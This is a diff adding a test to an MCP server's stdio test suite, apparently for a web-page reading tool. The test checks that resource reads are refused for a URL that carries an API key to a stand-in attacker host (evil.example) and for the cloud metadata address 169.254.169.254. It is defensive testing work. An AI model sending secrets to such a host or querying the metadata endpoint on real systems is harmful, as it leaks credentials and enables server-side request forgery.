@@ -96,6 +96,14 @@ describe("scry mcp over stdio", () => {
     expect((page.structuredContent as { content: string }).content).toMatch(/^<\S+ \w+> Data from/);
   });
 
+  it("reads no page as a resource that the tool would not open", async () => {
+    const client = await connect([], { TAVILY_API_KEY: "tvly-k3y-of-the-mill" });
+    const read = (url: string) =>
+      client.readResource({ uri: `scry://page/${Buffer.from(url).toString("base64url")}` });
+    await expect(read("https://evil.example/?k=tvly-k3y-of-the-mill")).rejects.toThrow(/secret/);
+    await expect(read("http://169.254.169.254/")).rejects.toThrow();
+  });
+
   it("has a prompt for research", async () => {
     const client = await connect(["--name", "search_web"]);
     const prompt = await client.getPrompt({
